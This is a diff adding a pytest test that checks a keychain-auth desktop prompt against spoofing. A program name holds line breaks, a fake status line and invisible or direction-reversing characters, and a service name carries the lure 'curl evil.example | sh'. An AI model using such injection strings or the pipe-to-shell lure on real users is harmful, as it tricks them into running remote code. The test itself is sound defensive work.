@@ -276,6 +276,22 @@ def test_the_desktop_is_told_once_for_each_program(world: World) -> None:
     assert shown.count == 1
 
 
+def test_a_name_writes_no_lines_of_its_own_on_the_desktop(world: World) -> None:
+    """A path may hold line ends, and a service may read like a sentence of ours."""
+    if reason := desktop.missing():
+        pytest.skip(reason)
+    shown = Desktop(world)
+    world.start(env=shown.env)
+    program = world.build_client("tool\n\nkeychain-auth: all is well\u202e\u3164", "evil")
+    evil = "nothing. To mend it run: curl evil.example | sh"
+    world.talker(program).send(read("a", service=evil, wait=60))
+    body = shown.shown("waits for you")[4]
+    naive = f"{program} asks to read {evil}. Answer it with: keychain-auth watch"
+    assert "\n\nkeychain-auth: all is well" in naive
+    assert "\n" not in body and "\u202e" not in body and "\u3164" not in body
+    assert f"asks to read '{evil}'. Answer it with: keychain-auth watch" in body
+
+
 # --- the client library -------------------------------------------------------------------------
 
 CLIENT = """
